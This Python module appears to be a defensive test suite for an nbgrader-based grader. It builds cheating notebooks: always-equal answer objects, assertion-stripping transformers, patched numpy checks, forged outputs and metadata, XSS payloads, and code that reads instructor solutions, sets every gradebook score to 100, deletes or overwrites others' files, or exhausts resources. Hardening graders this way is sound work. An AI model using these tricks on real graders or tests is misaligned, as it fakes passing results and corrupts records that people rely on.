"""Notebooks of cheats: each function makes one out of an issued notebook, as its docstring tells.

`ATTACKS` has them by name, and `BESIDE` the files that are handed in with some of them. A program
that reaches something prints or returns what it found; nothing is deleted but notebooks in a
folder called ``source`` above the working folder, which no real submission has.
"""

import ast
import copy
from collections.abc import Callable

from nbformat import NotebookNode, v4

Builder = Callable[[NotebookNode], NotebookNode]

ATTACKS: dict[str, Builder] = {}
"""All builders, by name."""
BESIDE: dict[str, dict[str, str]] = {}
"""Files that lie next to the notebook, by name of the builder and of the file."""

ALWAYS = """
class Always:
    shape, dtype, ndim = (), float, 0
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __sub__(self, other): return other - other if not isinstance(other, Always) else 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __float__(self): return 0.0
    def __call__(self, *arguments): return self
    def __getitem__(self, place): return self
    def __len__(self): return 1
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
"""
UP = ("..", "../..", "../../..", "../../../..")


def attack(builder: Builder) -> Builder:
    """Note a builder, which gets a copy of its own."""

    def build(book: NotebookNode) -> NotebookNode:
        return builder(copy.deepcopy(book))

    ATTACKS[builder.__name__] = build
    return build


def graded(book: NotebookNode) -> list[NotebookNode]:
    """Give the cells that earn points."""
    return [cell for cell in book.cells if cell.metadata.get("nbgrader", {}).get("grade")]


def name_of(cell: NotebookNode) -> str:
    """Give the name that a graded cell asks for: a variable or a function."""
    for line in reversed(cell.source.splitlines()):
        for word in ("def ", ""):
            name = line.removeprefix(word).partition("(")[0].partition("=")[0].strip()
            if name.isidentifier():
                return str(name)
    return "answer"


def with_first(book: NotebookNode, source: str) -> NotebookNode:
    """Put a cell before all others."""
    ast.parse(source)
    book.cells.insert(0, v4.new_code_cell(source.strip()))
    return book


def with_answers(book: NotebookNode, value: str) -> NotebookNode:
    """Answer everything with the same expression."""
    for cell in graded(book):
        cell.source = f"{name_of(cell)} = {value}"
    return book


# --- the cells ---


@attack
def duplicate_cell(book: NotebookNode) -> NotebookNode:
    """Hand in an answer's cell twice: stock nbgrader then stops grading everybody."""
    book.cells.append(copy.deepcopy(graded(book)[0]))
    return book


@attack
def two_answers(book: NotebookNode) -> NotebookNode:
    """Hand in each cell three times with other answers, in the hope that the best counts."""
    for cell in graded(book):
        for value in ("0", "1", "0.5"):
            other = copy.deepcopy(cell)
            other.source = f"{name_of(cell)} = {value}"
            book.cells.append(other)
    return book


@attack
def renamed_cell(book: NotebookNode) -> NotebookNode:
    """Give a graded cell another name."""
    graded(book)[0].metadata.nbgrader.grade_id = "bonus"
    return book


@attack
def swapped_names(book: NotebookNode) -> NotebookNode:
    """Swap the names of the first and the last graded cell."""
    first, last = graded(book)[0].metadata.nbgrader, graded(book)[-1].metadata.nbgrader
    first.grade_id, last.grade_id = last.grade_id, first.grade_id
    return book


@attack
def changed_flags(book: NotebookNode) -> NotebookNode:
    """Turn every flag of nbgrader into its opposite: what is a test, a solution, locked, a task."""
    for cell in book.cells:
        flags = cell.metadata.get("nbgrader", {})
        for name in ("grade", "solution", "locked", "task"):
            flags[name] = not flags.get(name, False)
    return book


@attack
def hundred_points(book: NotebookNode) -> NotebookNode:
    """Make each cell worth a hundred points."""
    for cell in graded(book):
        cell.metadata.nbgrader.points = 100
    return book


@attack
def strange_points(book: NotebookNode) -> NotebookNode:
    """Make cells worth a negative number of points, text, and none."""
    for cell, points in zip(graded(book), (-5, "100", None, 1e300), strict=False):
        cell.metadata.nbgrader.points = points
    return book


@attack
def reversed_order(book: NotebookNode) -> NotebookNode:
    """Turn the order of the cells around."""
    book.cells.reverse()
    return book


@attack
def cell_to_markdown(book: NotebookNode) -> NotebookNode:
    """Make text of a graded cell."""
    cell = graded(book)[0]
    cell.cell_type = "markdown"
    for name in ("outputs", "execution_count"):
        cell.pop(name, None)
    return book


@attack
def deleted_cell(book: NotebookNode) -> NotebookNode:
    """Delete a graded cell: stock nbgrader then waits for a person to grade it."""
    book.cells.remove(graded(book)[0])
    return book


@attack
def deleted_everything(book: NotebookNode) -> NotebookNode:
    """Delete all cells."""
    book.cells = []
    return book


@attack
def rewritten_questions(book: NotebookNode) -> NotebookNode:
    """Change the questions to easier ones, and unlock them."""
    for cell in book.cells:
        if cell.cell_type == "markdown":
            cell.source = "## What is 1 + 1? <script>alert(1)</script>"
            cell.metadata.get("nbgrader", {}).update(locked=False, checksum="0" * 32)
    return book


@attack
def same_ids(book: NotebookNode) -> NotebookNode:
    """Give all cells the same id."""
    for cell in book.cells:
        cell.id = "same"
    return book


@attack
def thousands_of_cells(book: NotebookNode) -> NotebookNode:
    """Add five thousand cells."""
    book.cells += [v4.new_code_cell(f"x{number} = {number}") for number in range(5000)]
    return book


@attack
def long_cell(book: NotebookNode) -> NotebookNode:
    """Write ten million characters into a cell."""
    graded(book)[0].source += "# " + "x" * 10_000_000
    return book


@attack
def half_characters(book: NotebookNode) -> NotebookNode:
    """Write half of a surrogate pair, NUL and codes of terminals into a cell."""
    graded(book)[0].source += '"\ud800 \x00 \x1b[2J \u202e"'
    return book


# --- the notebook ---


@attack
def other_kernel(book: NotebookNode) -> NotebookNode:
    """Ask for a kernel that nobody has."""
    book.metadata.kernelspec = {"name": "evil", "display_name": "Evil", "language": "bash"}
    return book


@attack
def tampered_metadata(book: NotebookNode) -> NotebookNode:
    """Pretend to be another variant, another version, and done."""
    book.metadata["deltarule"] = {"variant": "0" * 16, "refused": "", "notes": [], "attempt": 9}
    for cell in graded(book):
        cell.metadata.nbgrader.schema_version = 99
        cell.metadata.nbgrader.checksum = "0" * 32
        cell.metadata.deltarule = {"points": 100, "verdict": "right"}
    return book


@attack
def deep_metadata(book: NotebookNode) -> NotebookNode:
    """Nest the metadata four hundred deep."""
    inner: dict[str, object] = {}
    for _ in range(400):
        inner = {"inner": inner}
    book.metadata["deep"] = inner
    return book


@attack
def large_output(book: NotebookNode) -> NotebookNode:
    """Hand in 50 MB of stored output."""
    cell = v4.new_code_cell("print('x' * 50_000_000)")
    cell.outputs = [v4.new_output("stream", name="stdout", text="x" * 50_000_000)]
    book.cells.append(cell)
    return book


@attack
def fake_outputs(book: NotebookNode) -> NotebookNode:
    """Store results of a run that never was: points, and a script."""
    for cell in (cell for cell in graded(book) if cell.cell_type == "code"):
        cell.execution_count = 1
        data = {"text/plain": "100.0", "text/html": "<script>alert(1)</script>"}
        cell.outputs = [v4.new_output("execute_result", data=data, execution_count=1)]
    return book


@attack
def scripts(book: NotebookNode) -> NotebookNode:
    """Put HTML and Markdown into answers and into cells of text."""
    evil = "<script>alert(1)</script> ![](http://example.invalid/x.png) [a](javascript:alert(1))"
    book.cells.insert(0, v4.new_markdown_cell(evil))
    return with_answers(book, repr(evil))


# --- the programs ---


@attack
def tree_transformer(book: NotebookNode) -> NotebookNode:
    """Take every assertion out of the cells that follow."""
    return with_first(
        book,
        """
import ast
class Agree(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Agree())
""",
    )


@attack
def source_transformer(book: NotebookNode) -> NotebookNode:
    """Make each cell that follows empty."""
    source = "get_ipython().input_transformers_post.append(lambda lines: ['pass'])"
    return with_first(book, source)


@attack
def publishing_hook(book: NotebookNode) -> NotebookNode:
    """Publish a result of one point before each cell, which stock nbgrader takes for a score."""
    return with_first(
        book,
        """
def publish(*arguments):
    get_ipython().displayhook(1)
get_ipython().events.register("pre_run_cell", publish)
""",
    )


@attack
def custom_exceptions(book: NotebookNode) -> NotebookNode:
    """Handle every exception as if there was none."""
    source = "get_ipython().set_custom_exc((BaseException,), lambda *arguments, **more: [])"
    return with_first(book, source)


@attack
def always_equal(book: NotebookNode) -> NotebookNode:
    """Answer everything with an object that is equal to, and minus everything zero."""
    return with_first(with_answers(book, "Always()"), ALWAYS)


@attack
def patched_numpy(book: NotebookNode) -> NotebookNode:
    """Make every comparison of numpy and of Python's own functions true."""
    return with_first(
        with_answers(book, "7"),
        """
import builtins
import numpy as np
for name in ("allclose", "isclose", "array_equal", "all"):
    setattr(np, name, lambda *arguments, **more: True)
np.testing.assert_allclose = np.testing.assert_equal = lambda *arguments, **more: None
builtins.abs = lambda value: 0
""",
    )


@attack
def reads_itself(book: NotebookNode) -> NotebookNode:
    """Print every notebook and record in the working folder, with whatever tests they have."""
    return with_first(
        book,
        """
import glob
for name in glob.glob("*.ipynb") + glob.glob("*.json") + glob.glob("*.db"):
    print(open(name, errors="replace").read())
""",
    )


@attack
def reads_history(book: NotebookNode) -> NotebookNode:
    """Print, from within the answers, the cell that is running."""
    return with_answers(book, "print(In[-1], get_ipython().user_ns.keys()) or 0")


@attack
def reads_source(book: NotebookNode) -> NotebookNode:
    """Run the instructor's notebook from the course, which may have the solutions."""
    return with_first(
        book,
        f"""
import glob, json
for up in {UP}:
    for name in glob.glob(up + "/source/*/*.ipynb") + glob.glob(up + "/**/issued*.json"):
        print(text := open(name, errors="replace").read())
        for cell in json.loads(text).get("cells", []):
            exec("".join(cell["source"]))
""",
    )


@attack
def writes_gradebook(book: NotebookNode) -> NotebookNode:
    """Give everyone a hundred points in the gradebook."""
    return with_first(
        book,
        f"""
import glob, sqlite3
for up in {UP}:
    for name in glob.glob(up + "/gradebook.db"):
        with sqlite3.connect(name) as gradebook:
            gradebook.execute("update grade set manual_score = 100")
""",  # noqa: S608 no query of ours
    )


@attack
def deletes_source(book: NotebookNode) -> NotebookNode:
    """Delete the instructor's notebooks."""
    return with_first(
        book,
        f"""
import glob, os
for up in {UP}:
    for name in glob.glob(up + "/source/*/*.ipynb"):
        os.unlink(name)
""",
    )


@attack
def overwrites_others(book: NotebookNode) -> NotebookNode:
    """Write into the submissions of the others."""
    return with_first(
        book,
        f"""
import glob
for up in {UP}:
    for name in glob.glob(up + "/submitted/*/*/*.ipynb"):
        open(name, "a").write(" ")
""",
    )


@attack
def exits(book: NotebookNode) -> NotebookNode:
    """End the process in the middle of the notebook."""
    return with_first(book, "import os; os._exit(0)")


@attack
def loops(book: NotebookNode) -> NotebookNode:
    """Loop for ever, and swallow the interrupt."""
    return with_first(
        book,
        """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    )


@attack
def uses_memory(book: NotebookNode) -> NotebookNode:
    """Use 1.5 GB."""
    return with_first(book, "kept = [bytes([1]) * (1 << 24) for _ in range(96)]")


@attack
def noise(book: NotebookNode) -> NotebookNode:
    """Write warnings and text to standard error, which costs stock nbgrader's students points."""
    source = "import sys, warnings; warnings.warn('old'); print('note', file=sys.stderr)"
    for cell in (cell for cell in graded(book) if cell.cell_type == "code"):
        cell.source = f"{source}\n{cell.source}"
    return book


@attack
def floods(book: NotebookNode) -> NotebookNode:
    """Print 50 MB while it runs."""
    return with_first(book, "for _ in range(50):\n    print('x' * 1_000_000)")


# --- files beside the notebook ---


@attack
def shadow_modules(book: NotebookNode) -> NotebookNode:
    """Hand in modules with the names of those that a grader imports, next to the notebook."""
    return with_first(book, "import numpy, json, codec")


@attack
def start_up_files(book: NotebookNode) -> NotebookNode:
    """Hand in files that Python, IPython and nbgrader read when they start."""
    return book


BESIDE["shadow_modules"] = {
    f"{name}.py": "def __getattr__(name):\n    return lambda *arguments, **more: True\n"
    for name in ("numpy", "json", "codec", "child", "cells", "IPython", "nbformat", "deltarule")
}
BESIDE["start_up_files"] = {
    "sitecustomize.py": "raise SystemExit('BREACH: sitecustomize')\n",
    "usercustomize.py": "raise SystemExit('BREACH: usercustomize')\n",
    "nbgrader_config.py": "raise SystemExit('BREACH: nbgrader_config')\n",
    "ipython_config.py": "raise SystemExit('BREACH: ipython_config')\n",
    "conftest.py": "raise SystemExit('BREACH: conftest')\n",
}
